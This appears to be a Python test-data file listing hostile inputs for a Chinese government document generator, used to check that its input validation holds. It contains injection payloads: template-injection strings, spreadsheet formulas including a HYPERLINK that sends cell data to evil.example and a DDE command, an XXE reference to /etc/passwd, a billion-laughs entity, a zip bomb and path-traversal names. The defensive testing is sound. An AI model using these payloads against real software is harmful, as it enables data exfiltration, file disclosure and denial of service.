"""The hostile-input cases, as data: what is submitted, how, and what must come of it.

A case is submitted one of four ways (``via``):

- ``record``: a record dict, validated and rendered in-process (``docgen.kinds.parse_record`` + ``render_record``);
- ``yaml``: YAML text written to ``record.yaml`` in a work folder and run through ``docgen render`` (a subprocess);
- ``consolidate``: files written to the folder ``报送/`` and run through ``docgen consolidate``;
- ``plaques``: a station list run through ``docgen plaques``.

``files`` are written into the work folder first (bytes, text, or a callable given the folder, for symlinks
and files built at run time). The outcome is ``Refused`` (an ``InvalidRecord`` or exit status 1/2 with the
words in the message, never a traceback) or ``Rendered`` (the output opens, its XML parts parse, and each
check holds), or — only for input at a limit where both are right — ``Answered`` (either, within the time).
"""

from __future__ import annotations

import copy
import csv
import functools
import io
import os
import re
import subprocess
import tempfile
import zipfile
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, Callable, Mapping

import yaml

REPO = Path(__file__).resolve().parents[2]
SAMPLES = REPO / "samples"
ESCAPE = "docgen-hostile-escape"  # a name no case may create outside its output folder (checked in /tmp too)
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


# ------------------------------------------------------------------ outcomes


@dataclass(frozen=True)
class Refused:
    """Refused in Chinese: each word (or one of a tuple of alternatives) appears in the message; none of
    ``absent`` does (e.g. the content of a file that must not be echoed)."""

    words: tuple = ()
    absent: tuple = ()


def refused(*words: str | tuple[str, ...], absent: tuple[str, ...] = ()) -> Refused:
    return Refused(tuple(words), tuple(absent))


@dataclass(frozen=True)
class Rendered:
    """Rendered; every check (a callable given the Output) holds."""

    checks: tuple = ()


def rendered(*checks: Callable[["Output"], None]) -> Rendered:
    return Rendered(tuple(checks))


@dataclass(frozen=True)
class Answered:
    """Either refused naming each word, or rendered well-formed — for input at a limit where both are right;
    what is asserted is that it answers within the time, with no traceback."""

    words: tuple = ()


def answered(*words: str | tuple[str, ...]) -> Answered:
    return Answered(tuple(words))


@dataclass(frozen=True)
class Case:
    id: str
    kind: str
    via: str  # record | yaml | consolidate | plaques
    data: Any = None  # record: a dict (or a callable giving one); yaml: text (or a callable giving it)
    expect: Refused | Rendered | Answered = field(default_factory=Rendered)
    files: Mapping[str, Any] = field(default_factory=dict)
    args: tuple = ()  # plaques: the station file and options

    def record(self) -> Any:
        return self.data() if callable(self.data) else copy.deepcopy(self.data)

    def text(self) -> str:
        return self.data() if callable(self.data) else self.data


# ------------------------------------------------------------------ what came out


class Output:
    """Everything a case produced: file name → bytes (a ZIP's members as ``zip!member`` as well), and the
    messages (the CLI's stdout and stderr, or the artifacts' warnings and font reports)."""

    def __init__(self, files: dict[str, bytes], messages: str):
        self.files = dict(files)
        self.messages = messages
        self.zip_members: dict[str, list[str]] = {}
        for name, data in files.items():
            if name.lower().endswith(".zip"):
                with zipfile.ZipFile(io.BytesIO(data)) as z:
                    self.zip_members[name] = z.namelist()
                    for member in z.namelist():
                        if not member.endswith("/"):
                            self.files[f"{name}!{member}"] = z.read(member)

    def named(self, *suffixes: str) -> dict[str, bytes]:
        return {n: d for n, d in self.files.items() if n.lower().endswith(suffixes)}

    @functools.cached_property
    def texts(self) -> dict[str, str]:
        """The text of every DOCX, PDF, XLSX and CSV, whitespace removed."""
        out = {}
        for name, data in self.files.items():
            low = name.lower()
            if low.endswith(".docx"):
                out[name] = docx_text(data)
            elif low.endswith(".pdf"):
                out[name] = pdf_text(data)
            elif low.endswith(".xlsx"):
                out[name] = "".join(str(c.value) for c in xlsx_cells(data) if c.value is not None)
            elif low.endswith((".csv", ".txt")):
                out[name] = data.decode("utf-8-sig", "replace")
        return {n: re.sub(r"\s+", "", t) for n, t in out.items()}


def docx_text(data: bytes) -> str:
    from lxml import etree

    w = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"
    text = []
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for part in z.namelist():
            if part.startswith("word/") and part.endswith(".xml"):
                root = etree.fromstring(z.read(part))
                text += [t.text or "" for t in root.iter(f"{w}t")]
    return "".join(text)


def pdf_text(data: bytes) -> str:
    """The PDF's text in reading order and, after it, in drawing order (``-raw``): a table cell's wrapped
    lines read together in the second even where the first interleaves them with the next column's."""
    with tempfile.NamedTemporaryFile(suffix=".pdf") as f:
        f.write(data)
        f.flush()
        texts = [subprocess.run(["pdftotext", *mode, "-enc", "UTF-8", f.name, "-"], capture_output=True,
                                timeout=60).stdout.decode("utf-8", "replace") for mode in ([], ["-raw"])]
    return "\n".join(texts)


def xlsx_cells(data: bytes) -> list:
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def csv_fields(data: bytes) -> list[str]:
    return [value for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for value in row]


def squeeze(text: str) -> str:
    return re.sub(r"\s+", "", text)


# ------------------------------------------------------------------ checks


def shows(literal: str, *exts: str) -> Callable[[Output], None]:
    """``literal`` (whitespace aside) is printed as it is in at least one output of each of ``exts``."""
    exts = exts or (".docx", ".pdf")
    want = squeeze(literal)

    def check(out: Output) -> None:
        for ext in exts:
            texts = {n: t for n, t in out.texts.items() if n.lower().endswith(ext)}
            assert texts, f"no {ext} output"
            assert any(want in t for t in texts.values()), f"{literal!r} not printed as text in any {ext}: {list(texts)}"
    check.__name__ = f"shows({literal!r}, {exts})"
    return check


def hides(literal: str) -> Callable[[Output], None]:
    """``literal`` appears in no output (e.g. what a template would have evaluated)."""
    def check(out: Output) -> None:
        found = [n for n, t in out.texts.items() if squeeze(literal) in t]
        assert not found, f"{literal!r} found in {found}"
    return check


def xlsx_keeps_as_text(marker: str) -> Callable[[Output], None]:
    """Every generated workbook: no formula anywhere; a cell holding ``marker`` is a string cell that does not
    start like a formula unless Excel's quote prefix keeps it text; the marker reached some workbook."""
    def check(out: Output) -> None:
        books = out.named(".xlsx")
        assert books, "no workbook written"
        seen = False
        for name, data in books.items():
            with zipfile.ZipFile(io.BytesIO(data)) as z:
                for part in z.namelist():
                    if part.startswith("xl/worksheets/") and part.endswith(".xml"):
                        raw = z.read(part)
                        assert b"<f>" not in raw and b"<f " not in raw, f"{name}:{part} holds a formula"
            for cell in xlsx_cells(data):
                if isinstance(cell.value, str) and marker in cell.value:
                    seen = True
                    assert cell.data_type == "s", f"{name} {cell.coordinate} stored as {cell.data_type}"
                    assert not cell.value.startswith(FORMULA_PREFIXES) or cell.quotePrefix, \
                        f"{name} {cell.coordinate} = {cell.value!r} starts like a formula, no quote prefix"
        assert seen, f"{marker!r} reached no workbook cell"
    return check


def csv_keeps_as_text(marker: str, csv_name: str = "清单.csv") -> Callable[[Output], None]:
    """The named CSV: every field holding ``marker`` is neutralised (starts with ', never = + - @ tab CR)."""
    def check(out: Output) -> None:
        tables = {n: d for n, d in out.files.items() if n.endswith(csv_name)}
        assert tables, f"no {csv_name} written"
        seen = False
        for name, data in tables.items():
            for value in csv_fields(data):
                if marker in value:
                    seen = True
                    assert not value.startswith(FORMULA_PREFIXES), f"{name}: field {value!r} starts like a formula"
        assert seen, f"{marker!r} reached no field of {csv_name}"
    return check


def csv_field_starts_with_quote(marker: str, csv_name: str = "清单.csv") -> Callable[[Output], None]:
    """The value itself (e.g. the 站名 field) is neutralised with a leading ', as the guidance for CSV says."""
    def check(out: Output) -> None:
        fields = [v for n, d in out.files.items() if n.endswith(csv_name) for v in csv_fields(d) if marker in v]
        assert fields, f"{marker!r} reached no field of {csv_name}"
        assert any(v.startswith("'") for v in fields), f"no field neutralised with a leading ': {fields}"
    return check


def pages_at_least(n: int) -> Callable[[Output], None]:
    def check(out: Output) -> None:
        import pikepdf

        counts = []
        for data in out.named(".pdf").values():
            with pikepdf.open(io.BytesIO(data)) as pdf:
                counts.append(len(pdf.pages))
        assert counts and max(counts) >= n, f"PDF pages {counts}, expected at least {n}"
    return check


def says(*words: str) -> Callable[[Output], None]:
    """The messages (CLI output, warnings) name each word."""
    def check(out: Output) -> None:
        for word in words:
            assert word in out.messages, f"{word!r} not in the messages:\n{out.messages[-2000:]}"
    return check


def file_says(suffix: str, *words: str) -> Callable[[Output], None]:
    def check(out: Output) -> None:
        texts = [d.decode("utf-8-sig", "replace") for n, d in out.files.items() if n.endswith(suffix)]
        assert texts, f"no {suffix} written"
        for word in words:
            assert any(word in t for t in texts), f"{word!r} not in {suffix}"
    return check


def file_named(fragment: str) -> Callable[[Output], None]:
    """Some output file is named with ``fragment`` (a batch title that reaches only the ZIP's name)."""
    def check(out: Output) -> None:
        assert any(fragment in name for name in out.files), f"no output named with {fragment!r}: {list(out.files)[:5]}"
    return check


def output_names_within(limit: int = 255) -> Callable[[Output], None]:
    def check(out: Output) -> None:
        for name in out.files:
            for part in re.split(r"[/!]", name):
                assert len(part.encode("utf-8")) <= limit, f"file name part of {len(part.encode())} bytes"
    return check


# ------------------------------------------------------------------ base records


def _sample(path: str) -> dict:
    return yaml.safe_load((SAMPLES / path).read_text(encoding="utf-8"))


def at(data: dict, path: str, value: Any) -> dict:
    """``data`` with ``value`` put at a dotted path (``body.1.h1``, ``signature.date``); returns data."""
    parts = [int(p) if p.isdigit() else p for p in path.split(".")]
    node = data
    for part in parts[:-1]:
        node = node[part]
    node[parts[-1]] = value
    return data


def NOTICE() -> dict:
    return {
        "kind": "notice",
        "issuer": {"organ": "焦作市市场监督管理局"},
        "doc_number": "焦市监〔2024〕31号",
        "title": "焦作市市场监督管理局关于开展知识产权保护宣传周活动的通知",
        "addressees": "各县（市）、区市场监督管理局",
        "body": ["为做好知识产权保护宣传周活动，现将有关事项通知如下。", {"h1": "活动安排"},
                 "请各单位认真落实，按时报送活动总结。"],
        "signature": {"organ": "焦作市市场监督管理局", "date": "2024年4月20日"},
    }


def PLAQUE() -> dict:
    return {"kind": "plaque", "station": "知识产权保护工作站焦作高新区园区站", "proof_dpi": 30}


def PLAQUE_BATCH() -> dict:
    return {"kind": "plaque-batch", "title": "第一批", "proof_dpi": 30, "stations": [
        {"serial": 1, "name": "知识产权保护工作站焦作高新区园区站"},
        {"serial": 2, "name": "知识产权保护工作站山阳区太行路商会站"}]}


def REPORT() -> dict:
    return _sample("annexes/shanyang.yaml")


def APPLICATION() -> dict:
    return _sample("applications/gaoxin-park.yaml")


def REPLY() -> dict:
    return _sample("replies/gaoxin-approve-station.yaml")


def BULLETIN() -> dict:
    data = _sample("bulletins/city-2021-inspection.yaml")
    del data["submissions_folder"]
    data["submissions"] = [{"report": REPORT()}]
    data["inspections"] = [data["inspections"][0]]  # 山阳区, whose report is the one given
    return data


def REPLY_BATCH() -> dict:
    data = _sample("replies/city-batch-2021-09.yaml")
    app = APPLICATION()
    del app["kind"]
    data["replies"] = [
        {"application": app, "request": {"title": "关于申请确定为知识产权保护联系点的请示", "number": "焦高管〔2021〕21号"},
         "instructor": "黄磊"},
        data["replies"][3],  # the new station, inline
    ]
    data["proof_dpi"] = 30
    return data


def dump(data: Any) -> str:
    return yaml.safe_dump(data, allow_unicode=True, sort_keys=False)


BASES: dict[str, Callable[[], dict]] = {
    "notice": NOTICE, "plaque": PLAQUE, "plaque-batch": PLAQUE_BATCH, "district-report": REPORT, "reply": REPLY,
    "bulletin": BULLETIN, "reply-batch": REPLY_BATCH, "contact-point-application": APPLICATION,
}


def modified(kind: str, *changes: tuple[str, Any]) -> Callable[[], dict]:
    """A base record of ``kind`` with values put at dotted paths (built when the case runs)."""
    def build() -> dict:
        data = BASES[kind]()
        for path, value in changes:
            at(data, path, value)
        return data
    return build


# ------------------------------------------------------------------ files built at run time

CSV_HEADER_5 = "知识产权保护社会服务机构名称,类别,联系人,联系方式,备注\n"


def institutions_csv(remarks: str, name: str = "焦作市山阳区知识产权纠纷人民调解委员会") -> bytes:
    out = io.StringIO()
    out.write(CSV_HEADER_5)
    csv.writer(out).writerow([name, "调解委员会", "冯丽", "0391-3560031", remarks])
    return out.getvalue().encode("utf-8")


def good_report_yaml() -> str:
    return (SAMPLES / "annexes/shanyang.yaml").read_text(encoding="utf-8")


def stations_csv(*names: str) -> bytes:
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(["序号", "站名", "所属辖区局"])
    for i, name in enumerate(names, 1):
        writer.writerow([i, name, "山阳区市场监督管理局"])
    return out.getvalue().encode("utf-8")


def _xlsx(rows: list[list[Any]], far_cell: tuple[int, int] | None = None) -> bytes:
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    for row in rows:
        sheet.append(row)
    if far_cell:
        sheet.cell(*far_cell, "x")
    buf = io.BytesIO()
    book.save(buf)
    return buf.getvalue()


def xlsx_far_row() -> bytes:
    """A workbook with a cell at row 1,048,576 (Excel's last row): small on disk, huge when expanded."""
    return _xlsx([["站名"], ["知识产权保护工作站焦作高新区园区站"]], (1_048_576, 1))


@functools.lru_cache(maxsize=1)
def xlsx_zip_bomb() -> bytes:
    """A valid-looking workbook whose sheet inflates to 210 MB of whitespace."""
    base = _xlsx([["站名"], ["知识产权保护工作站焦作高新区园区站"]])
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(base)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            if info.filename == "xl/worksheets/sheet1.xml":
                bomb = zipfile.ZipInfo(info.filename)
                bomb.compress_type = zipfile.ZIP_DEFLATED
                with dst.open(bomb, "w", force_zip64=True) as w:
                    w.write(b'<?xml version="1.0" encoding="UTF-8"?>'
                            b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>')
                    chunk = b" " * (1024 * 1024)
                    for _ in range(210):
                        w.write(chunk)
                    w.write(b"</sheetData></worksheet>")
            else:
                dst.writestr(info, src.read(info.filename))
    return out.getvalue()


def xlsx_with_entity() -> bytes:
    """A workbook whose sheet declares entities (billion laughs / XXE)."""
    base = _xlsx([["站名"], ["知识产权保护工作站焦作高新区园区站"]])
    evil = (b'<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">'
            b'<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
            b'<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
            b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
            b'<row r="1"><c r="A1" t="inlineStr"><is><t>&lol2;&xxe;</t></is></c></row></sheetData></worksheet>')
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(base)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            dst.writestr(info, evil if info.filename == "xl/worksheets/sheet1.xml" else src.read(info.filename))
    return out.getvalue()


def csv_renamed_xlsx() -> bytes:
    return stations_csv("知识产权保护工作站焦作高新区园区站")


def huge_cell_csv() -> bytes:
    """An annex-5 CSV (and station list) whose one cell holds 2 million characters."""
    return ("站名,备注\n知识产权保护工作站焦作高新区园区站," + "测" * 2_000_000 + "\n").encode("utf-8")


def huge_cell_institutions_csv() -> bytes:
    return institutions_csv("测" * 2_000_000)


def many_stations_csv() -> bytes:
    return stations_csv(*(f"知识产权保护工作站第{i}园区站" for i in range(100_000)))


def district_workbook_with(remarks: str) -> bytes:
    """The district workbook docgen sends out, filled with one institution whose 备注 is ``remarks``
    (written as a plain string cell, the way a clerk's spreadsheet would store it)."""
    from openpyxl import load_workbook

    from docgen.annexes.workbook import HEADER_ROW, write_workbook

    book = load_workbook(io.BytesIO(write_workbook("山阳区市场监督管理局")))
    sheet = next(s for s in book.worksheets if s.title.startswith("附件5"))
    values = ["焦作市山阳区知识产权纠纷人民调解委员会", "调解委员会", "冯丽", "0391-3560031", remarks]
    headers = [c.value for c in sheet[HEADER_ROW]]
    first = 1 + (headers[0] == "序号")
    for i, value in enumerate(values):
        cell = sheet.cell(HEADER_ROW + 1, first + i, value)
        cell.data_type = "s"
    buf = io.BytesIO()
    book.save(buf)
    return buf.getvalue()


def symlink(target: str) -> Callable[[Path], None]:
    def make(path: Path) -> None:
        os.symlink(target, path)
    return make


# ------------------------------------------------------------------ the cases

CASES: list[Case] = []


def add(case: Case) -> None:
    CASES.append(case)


CONTROL = {"nul": "\x00", "bel": "\x07", "vt": "\x0b", "esc": "\x1b", "del": "\x7f", "nel": "\x85",
           "nonchar-fffe": "\ufffe"}

# (kind, dotted path, words the message names) — one text field of each kind
CONTROL_FIELDS = [
    ("notice", "title", ("title",)),
    ("plaque", "station", ("station",)),
    ("plaque-batch", "stations.0.name", ("stations", "name")),
    ("district-report", "institutions.0.remarks", ("institutions", "remarks")),
    ("reply", "request.title", ("request.title",)),
    ("bulletin", "inspections.0.commendations.0", ("inspections", "commendations")),
    ("reply-batch", "replies.0.instructor", ("replies", "instructor")),
    ("contact-point-application", "address", ("address",)),
]

# ---- control characters, every kind, in-process
for kind, path, words in CONTROL_FIELDS:
    for label, ch in CONTROL.items():
        def value(path=path, ch=ch, kind=kind):
            base = BASES[kind]()
            node = base
            for p in path.split(".")[:-1]:
                node = node[int(p) if p.isdigit() else p]
            last = path.split(".")[-1]
            original = node[int(last) if last.isdigit() else last]
            return original[:6] + ch + original[6:]
        add(Case(f"{kind}-{path.replace('.', '-')}-control-{label}", kind, "record",
                 (lambda kind=kind, path=path, value=value: at(BASES[kind](), path, value())),
                 refused(*words, f"U+{ord(ch):04X}")))

# ---- one more control character (BEL, or a C1/non-character) in the other text fields of each kind
MORE_FIELDS = [
    ("notice", "body.0", "\x07", ("body",)),
    ("notice", "body.1.h1", "\x1b", ("body", "h1")),
    ("notice", "addressees", "\x85", ("addressees",)),
    ("notice", "issuer.organ", "\x07", ("issuer.organ",)),
    ("notice", "signature.organ", "\ufffe", ("signature.organ",)),
    ("plaque-batch", "title", "\x07", ("title",)),
    ("district-report", "district", "\x07", ("district",)),
    ("district-report", "enterprises.0.enterprise", "\x0b", ("enterprises", "enterprise")),
    ("district-report", "volunteer_teams.0.team", "\x7f", ("volunteer_teams", "team")),
    ("reply", "proposal.organisation", "\x07", ("proposal.organisation",)),
    ("reply", "instructor", "\x00", ("instructor",)),
    ("bulletin", "inspections.0.district", "\x07", ("inspections", "district")),
    ("bulletin", "issuer.organ", "\x1b", ("issuer.organ",)),
    ("reply-batch", "title", "\x07", ("title",)),
    ("reply-batch", "replies.1.proposal.organisation", "\x85", ("replies", "organisation")),
    ("contact-point-application", "equipment", "\x07", ("equipment",)),
    ("contact-point-application", "applicant_opinion.text", "\x0b", ("applicant_opinion.text",)),
    ("contact-point-application", "head.name", "\x1b", ("head.name",)),
]
for kind, path, ch, words in MORE_FIELDS:
    def insert(kind=kind, path=path, ch=ch):
        data = BASES[kind]()
        node = data
        keys = [int(p) if p.isdigit() else p for p in path.split(".")]
        for key in keys[:-1]:
            node = node[key]
        node[keys[-1]] = node[keys[-1]][:2] + ch + node[keys[-1]][2:]
        return data
    add(Case(f"{kind}-{path.replace('.', '-')}-control-U{ord(ch):04X}", kind, "record", insert,
             refused(*words, f"U+{ord(ch):04X}")))
add(Case("notice-key-control-bel", "notice", "record", lambda: {**NOTICE(), "ti\x07tle": "x"}, refused("U+0007")))
add(Case("plaque-station-newline", "plaque", "record", modified("plaque", ("station", "焦作高新区\n园区站")),
         refused("station")))

# ---- control characters through the CLI (YAML escapes), and in a submitted CSV
for label, (escape, code) in {"bel": ("\\a", "U+0007"), "nul": ("\\0", "U+0000"), "esc": ("\\e", "U+001B"),
                              "nel": ("\\N", "U+0085")}.items():
    add(Case(f"notice-yaml-signature-organ-control-{label}", "notice", "yaml",
             lambda escape=escape: dump(NOTICE()).replace("organ: 焦作市市场监督管理局\n  date",
                                                          f'organ: "焦作市{escape}市场监督管理局"\n  date'),
             refused("signature.organ", code)))
for label, ch in CONTROL.items():
    if ch == "\x00":  # a NUL makes the whole CSV unreadable (UTF-16 or binary): the file is refused by name
        expect = refused("焦作市解放区市场监督管理局.csv", "NUL")
    else:
        expect = rendered(says(f"U+{ord(ch):04X}", "第 2 行"), shows("焦作市山阳区知识产权纠纷人民调解委员会", ".xlsx"))
    add(Case(f"consolidation-csv-remarks-control-{label}", "consolidation", "consolidate", None, expect,
             {"报送/shanyang.yaml": good_report_yaml(),
              "报送/焦作市解放区市场监督管理局.csv": lambda p, ch=ch: p.write_bytes(institutions_csv(f"专职{ch}调解员"))}))

# ---- template syntax prints as text
TEMPLATES = {"expr": "{{ 7*7 }}", "stmt": "{% if true %}真{% endif %}", "comment": "{# 注释 #}"}
for label, tag in TEMPLATES.items():
    add(Case(f"notice-body-template-{label}", "notice", "record",
             modified("notice", ("body.0", f"现将有关事项通知如下{tag}。")), rendered(shows(tag))))
add(Case("notice-title-template-expr", "notice", "record",
         modified("notice", ("title", "焦作市市场监督管理局关于{{ 7*7 }}的通知")), rendered(shows("{{ 7*7 }}"))))
add(Case("notice-h1-template-stmt", "notice", "record",
         modified("notice", ("body.1.h1", "活动{% for x in range(3) %}安排{% endfor %}")),
         rendered(shows("{% for x in range(3) %}安排{% endfor %}"))))
add(Case("notice-note-template-comment", "notice", "record",
         modified("notice", ("note", "联系人：王芳{# 秘密 #}")), rendered(shows("{# 秘密 #}"))))
add(Case("notice-table-cell-template-docxtpl-tr", "notice", "record",
         modified("notice", ("body.2", {"table": {"columns": ["项目", "说明"],
                                                  "rows": [["{%tr for r in rows %}", "{{r x }}"]]}})),
         rendered(shows("{%tr for r in rows %}"), shows("{{r x }}"))))
add(Case("notice-body-docxtpl-paragraph-tag", "notice", "record",
         modified("notice", ("body.0", "{%p if False %}正文应当照印{%p endif %}")),
         rendered(shows("{%p if False %}正文应当照印{%p endif %}"))))
add(Case("notice-body-xml-and-html-markup", "notice", "record",
         modified("notice", ("body.0", "</w:t></w:r><w:r><w:t>注入<b>粗</b>&amp;&nbsp;<script>x</script>")),
         rendered(shows("</w:t></w:r><w:r><w:t>注入<b>粗</b>&amp;&nbsp;<script>x</script>"))))
add(Case("notice-attachment-title-template-expr", "notice", "record",
         modified("notice", ("attachments", [{"title": "活动{{ 7*7 }}安排表"}])), rendered(shows("活动{{ 7*7 }}安排表"))))
add(Case("notice-yaml-title-template-expr", "notice", "yaml",
         lambda: dump(at(NOTICE(), "title", "焦作市市场监督管理局关于{{ 7*7 }}{{ config }}的通知")),
         rendered(shows("{{ 7*7 }}{{ config }}"))))
add(Case("plaque-station-template-expr", "plaque", "record",
         modified("plaque", ("station", "{{7*7}}园区站"), ("text_as", "fonts")), rendered(shows("{{7*7}}园区站", ".pdf"))))
add(Case("plaque-bureau-template-stmt", "plaque", "record",
         modified("plaque", ("variant", "contact"), ("bureau", "{%if 1%}山阳区"), ("text_as", "fonts")),
         rendered(shows("{%if 1%}山阳区", ".pdf"))))
add(Case("plaque-batch-name-template-expr", "plaque-batch", "record",
         modified("plaque-batch", ("stations.0.name", "{{ 7*7 }}园区站")), rendered(shows("{{ 7*7 }}园区站", ".csv"))))
add(Case("plaque-batch-title-template-comment", "plaque-batch", "record",
         modified("plaque-batch", ("title", "第一批{# x #}")), rendered(file_named("第一批{#"))))
for label, tag in TEMPLATES.items():
    add(Case(f"district-report-remarks-template-{label}", "district-report", "record",
             modified("district-report", ("institutions.0.remarks", f"专职调解员{tag}")),
             rendered(shows(f"专职调解员{tag}", ".docx", ".pdf", ".xlsx"))))
add(Case("district-report-station-template-expr", "district-report", "record",
         modified("district-report", ("stations.0.station", "知识产权保护工作站{{ 7*7 }}商会站")),
         rendered(shows("知识产权保护工作站{{ 7*7 }}商会站", ".docx", ".xlsx"))))
for label, tag in TEMPLATES.items():
    add(Case(f"reply-request-title-template-{label}", "reply", "record",
             modified("reply", ("request.title", f"关于设立工作站{tag}的请示")), rendered(shows(f"关于设立工作站{tag}的请示"))))
add(Case("reply-organisation-template-loop", "reply", "record",
         modified("reply", ("proposal.organisation", "焦作{% for i in range(99) %}高新{% endfor %}管委会")),
         rendered(shows("焦作{% for i in range(99) %}高新{% endfor %}管委会"))))
add(Case("reply-reasons-template-expr", "reply", "record",
         modified("reply", ("decision", "decline"), ("reasons", ["{{ self.__init__.__globals__ }}"])),
         rendered(shows("{{ self.__init__.__globals__ }}"))))
add(Case("reply-instructor-template-comment", "reply", "record",
         modified("reply", ("instructor", "黄磊{# 指导员 #}")), rendered(shows("黄磊{# 指导员 #}"))))
for label, tag in TEMPLATES.items():
    add(Case(f"bulletin-commendation-template-{label}", "bulletin", "record",
             modified("bulletin", ("inspections.0.commendations.0", f"开展商标维权培训{tag}")),
             rendered(shows(f"开展商标维权培训{tag}"))))
add(Case("bulletin-correction-template-stmt", "bulletin", "record",
         modified("bulletin", ("inspections.0.corrections", ["{% raw %}记录不完整{% endraw %}"])),
         rendered(shows("{% raw %}记录不完整{% endraw %}"))))
add(Case("reply-batch-organisation-template-expr", "reply-batch", "record",
         modified("reply-batch", ("replies.1.proposal.organisation", "修武县{{ 7*7 }}协会")),
         rendered(shows("修武县{{ 7*7 }}协会", ".docx", ".pdf"))))
add(Case("reply-batch-title-template-stmt", "reply-batch", "record",
         modified("reply-batch", ("title", "九月{% if 1 %}批复{% endif %}")), rendered(file_named("九月{%"))))
for label, tag in TEMPLATES.items():
    add(Case(f"contact-point-application-equipment-template-{label}", "contact-point-application", "record",
             modified("contact-point-application", ("equipment", f"电脑 3 台{tag}")),
             rendered(shows(f"电脑 3 台{tag}", ".docx", ".pdf", ".xlsx"))))
add(Case("contact-point-application-opinion-docxtpl-tag", "contact-point-application", "record",
         modified("contact-point-application", ("applicant_opinion.text", "{%p if False %}同意申报。{%p endif %}")),
         rendered(shows("{%p if False %}同意申报。{%p endif %}", ".docx", ".pdf", ".xlsx"))))
add(Case("consolidation-csv-remarks-template-expr", "consolidation", "consolidate", None,
         rendered(shows("专职调解员{{ 7*7 }}", ".docx", ".pdf", ".xlsx")),
         {"报送/shanyang.yaml": good_report_yaml(), "报送/焦作市解放区市场监督管理局.csv": institutions_csv("专职调解员{{ 7*7 }}")}))

# ---- formula prefixes reach workbooks and CSV as text
PREFIXED = {"eq": '=HYPERLINK("http://evil.example/?"&A1,"点击")', "plus": "+SUM(7,7)", "minus": "-SUM(7,7)",
            "at": "@SUM(7,7)", "tab": "\t=SUM(7,7)", "cr": "\r=SUM(7,7)"}


def _marker(value: str) -> str:
    return "HYPERLINK" if "HYPERLINK" in value else "SUM(7,7)"


for label, value in PREFIXED.items():
    add(Case(f"district-report-remarks-formula-{label}", "district-report", "record",
             modified("district-report", ("institutions.0.remarks", value)), rendered(xlsx_keeps_as_text(_marker(value)))))
add(Case("district-report-enterprise-formula-eq", "district-report", "record",
         modified("district-report", ("enterprises.0.enterprise", "=cmd|' /C calc'!A0")),
         rendered(xlsx_keeps_as_text("cmd|"))))
add(Case("district-report-bureau-formula-at", "district-report", "record",
         modified("district-report", ("stations.0.bureau", "@SUM(7,7)")), rendered(xlsx_keeps_as_text("SUM(7,7)"))))
for label in ("eq", "at", "tab", "minus"):
    value = PREFIXED[label]
    add(Case(f"contact-point-application-address-formula-{label}", "contact-point-application", "record",
             modified("contact-point-application", ("address", value)), rendered(xlsx_keeps_as_text(_marker(value)))))
add(Case("contact-point-application-equipment-formula-plus", "contact-point-application", "record",
         modified("contact-point-application", ("equipment", "+SUM(7,7)")), rendered(xlsx_keeps_as_text("SUM(7,7)"))))
for label in ("eq", "plus", "at", "tab"):
    value = PREFIXED[label]
    add(Case(f"consolidation-csv-remarks-formula-{label}", "consolidation", "consolidate", None,
             rendered(xlsx_keeps_as_text(_marker(value))),
             {"报送/shanyang.yaml": good_report_yaml(),
              "报送/焦作市解放区市场监督管理局.csv": lambda p, value=value: p.write_bytes(institutions_csv(value))}))
add(Case("consolidation-xlsx-remarks-formula-eq", "consolidation", "consolidate", None,
         rendered(xlsx_keeps_as_text("HYPERLINK")),
         {"报送/山阳区.xlsx": lambda p: p.write_bytes(district_workbook_with(PREFIXED["eq"]))}))
for label in ("eq", "plus", "minus", "at"):
    name = PREFIXED[label].split("(")[0] + "(7,7)园区站" if label != "eq" else "=SUM(7,7)园区站"
    add(Case(f"plaque-batch-name-formula-{label}", "plaque-batch", "record",
             modified("plaque-batch", ("stations.0.name", name)),
             rendered(csv_keeps_as_text("SUM(7,7)"), csv_field_starts_with_quote("SUM(7,7)"))))
add(Case("plaque-batch-cli-csv-name-formula-eq", "plaque-batch", "plaques", None,
         rendered(csv_keeps_as_text("SUM(7,7)"), csv_field_starts_with_quote("SUM(7,7)")),
         {"stations.csv": stations_csv("=SUM(7,7)园区站", "知识产权保护工作站山阳区太行路商会站")}, ("stations.csv",)))
add(Case("reply-batch-name-formula-minus", "reply-batch", "record",
         modified("reply-batch", ("replies.0.name", "-SUM7")),
         rendered(csv_keeps_as_text("SUM7"), csv_field_starts_with_quote("SUM7"))))

# ---- path names
for label, name in {"absolute": f"/tmp/{ESCAPE}", "dotdot": f"../../../{ESCAPE}", "slash": "a/b", "dots": "..",
                    "con": "CON", "300-bytes": "名" * 100}.items():
    add(Case(f"notice-name-path-{label}", "notice", "yaml", lambda name=name: dump(at(NOTICE(), "name", name)),
             refused("name")))
add(Case("bulletin-name-path-dotdot", "bulletin", "record", modified("bulletin", ("name", f"../../{ESCAPE}")),
         refused("name")))
add(Case("reply-name-path-absolute", "reply", "yaml", lambda: dump(at(REPLY(), "name", f"/tmp/{ESCAPE}")),
         refused("name")))
add(Case("reply-name-path-300-bytes", "reply", "record", modified("reply", ("name", "x" * 300)), refused("name")))
add(Case("reply-batch-name-path-dotdot", "reply-batch", "yaml",
         lambda: dump(at(REPLY_BATCH(), "replies.0.name", f"../../../{ESCAPE}")), refused("name")))
add(Case("plaque-batch-title-path-absolute", "plaque-batch", "yaml",
         lambda: dump(at(PLAQUE_BATCH(), "title", f"/tmp/{ESCAPE}")), rendered(output_names_within())))
